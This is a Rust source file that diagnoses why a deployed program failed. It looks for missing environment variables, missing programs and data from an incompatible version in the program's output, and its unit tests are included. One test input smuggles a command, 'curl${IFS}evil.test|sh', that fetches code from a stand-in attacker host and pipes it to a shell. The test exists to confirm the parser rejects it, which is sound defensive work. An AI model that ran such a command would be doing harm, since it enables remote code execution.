//! Causes in the output of a failed program: missing variables, missing programs, and data of another version.

use std::collections::BTreeMap;

use super::case::is_plain;
use crate::desired::{Desired, Mount, Service};
use crate::outcome::Evidence;
use crate::secrets::is_secret;

/// Lines at the end of the output that can contain the cause.
const LINES: usize = 20;
/// Parts of a message about a missing variable, in lower case.
const MISSING: [&str; 11] = [
    "not set",
    "unset",
    "not defined",
    "undefined",
    "required",
    "must be set",
    "missing",
    "not provided",
    "keyerror",
    "no value for",
    "must name",
];
/// Words that mark any word in capitals as a variable, in lower case.
const VARIABLE_WORDS: [&str; 5] = ["variable", "env", "parameter", "keyerror", "setting"];
/// Words in capitals that are no variables.
const LEVELS: [&str; 10] = [
    "ERROR", "FATAL", "PANIC", "WARN", "WARNING", "INFO", "DEBUG", "TRACE", "CRITICAL", "HTTP",
];

/// Parts of a message about data that this version of the program cannot read, in lower case.
const UNFIT_DATA: [&str; 9] = [
    "incompatible",
    "not compatible",
    "initialized by",
    "cannot downgrade",
    "downgrade from",
    "corrupt",
    "format version",
    "created by a newer",
    "existing data files",
];
/// Ends of a message about a missing program, after its name.
const NOT_FOUND: [&str; 3] = [
    ": not found",
    ": command not found",
    ": executable file not found in $PATH",
];

/// Last lines of both streams, newest first.
fn last_lines(evidence: &Evidence) -> impl Iterator<Item = &str> {
    let last = |lines: &'_ [String]| lines.len().saturating_sub(LINES);
    let (stderr, stdout) = (&evidence.stderr, &evidence.stdout);
    let stderr = stderr[last(stderr)..].iter().rev();
    stderr
        .chain(stdout[last(stdout)..].iter().rev())
        .map(String::as_str)
}

/// Variable that the program reported as missing, and that the file does not set.
pub(super) fn missing_variable(evidence: &Evidence, set: &BTreeMap<String, String>) -> Option<String> {
    last_lines(evidence).find_map(|line| variable_in(line, set))
}

/// Program that a shell did not find.
pub(super) fn missing_program(evidence: &Evidence) -> Option<&str> {
    last_lines(evidence).find_map(program_in)
}

/// Line about data that this version of the program cannot read.
pub(super) fn unfit_data(evidence: &Evidence) -> Option<&str> {
    last_lines(evidence).find(|line| {
        let lower = line.to_lowercase();
        UNFIT_DATA.iter().any(|part| lower.contains(part))
    })
}

/// Program in a message of a shell or of the engine, such as `sh: htpd: not found`.
pub(crate) fn program_in(line: &str) -> Option<&str> {
    let of_shell = NOT_FOUND.iter().find_map(|end| {
        let (before, _) = line.split_once(end)?;
        Some(before.rsplit(": ").next()?.trim().trim_matches('"'))
    });
    // The init process of the engine.
    let of_init = || {
        let (_, rest) = line.split_once("] exec ")?;
        Some(rest.split_once(" failed: No such file or directory")?.0)
    };
    let name = of_shell.or_else(of_init)?;
    (!name.is_empty() && is_plain(name)).then_some(name)
}

/// Value of a missing variable: that of the siblings, or the only mounted file that fits a name such as `SEED_FILE`.
pub(super) fn value_of(name: &str, service: &Service, desired: &Desired) -> Option<String> {
    if is_secret(name) {
        return None;
    }
    if let Some(stem) = name.strip_suffix("_FILE").or_else(|| name.strip_suffix("_PATH")) {
        let stem = stem.to_lowercase();
        let mut fitting = service.mounts.iter().map(Mount::target).filter(|target| {
            let file = target.rsplit('/').next().unwrap_or_default();
            file.to_lowercase().contains(&stem)
        });
        return fitting
            .next()
            .filter(|_| fitting.next().is_none())
            .map(str::to_owned);
    }
    let siblings = desired.services.values();
    let mut values = siblings.filter_map(|sibling| sibling.env_vars.get(name));
    let value = values.next()?;
    // A value with `@` is an address with a password.
    let is_shared = values.all(|other| other == value) && !value.contains('@');
    is_shared.then(|| value.clone())
}

fn variable_in(line: &str, set: &BTreeMap<String, String>) -> Option<String> {
    let lower = line.to_lowercase();
    if !MISSING.iter().any(|part| lower.contains(part)) {
        return None;
    }
    let is_about_variables = VARIABLE_WORDS.iter().any(|word| lower.contains(word));
    let mut words = line.split(|c: char| !c.is_ascii_alphanumeric() && c != '_');
    let word = words.find(|word| {
        let is_name = word.len() >= 3
            && word.starts_with(|c: char| c.is_ascii_uppercase())
            && word
                .chars()
                .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_');
        is_name && (word.contains('_') || is_about_variables) && !LEVELS.contains(word)
    })?;
    let is_set = set.get(word).is_some_and(|value| !value.is_empty());
    (!is_set && is_plain(word)).then(|| word.to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn missing_program_is_found_in_common_messages() {
        for (line, name) in [
            ("sh: htpd: not found", Some("htpd")),
            ("/bin/sh: 1: /app/run: not found", Some("/app/run")),
            ("bash: line 1: nod: command not found", Some("nod")),
            (
                "failed: exec: \"slepp\": executable file not found in $PATH: unknown",
                Some("slepp"),
            ),
            (
                "[FATAL tini (7)] exec slepp failed: No such file or directory",
                Some("slepp"),
            ),
            ("GET /x: 404: page not found", None),
            ("sh: x;curl${IFS}evil.test|sh: not found", None),
            ("sh: --eval=x: not found", None),
            ("started", None),
        ] {
            assert_eq!(program_in(line), name, "{line}");
        }
    }

    #[test]
    fn missing_variable_is_found_in_common_messages() {
        let set = BTreeMap::from([("LOG_LEVEL".to_owned(), "info".to_owned())]);
        for (line, name) in [
            ("sh: DATABASE_URL: parameter not set", Some("DATABASE_URL")),
            ("FATAL: environment variable TOKEN is required", Some("TOKEN")),
            ("KeyError: 'API_KEY'", Some("API_KEY")),
            ("Error: SECRET_KEY_BASE must be set", Some("SECRET_KEY_BASE")),
            ("ERROR: a required field is missing", None),
            ("LOG_LEVEL is not set", None),
            ("usage: SEED_FILE must name the seed file", Some("SEED_FILE")),
            ("usage: main.py [-h] --config-file CONFIG_FILE", None),
            ("started with DATABASE_URL", None),
        ] {
            assert_eq!(variable_in(line, &set).as_deref(), name, "{line}");
        }
    }
}
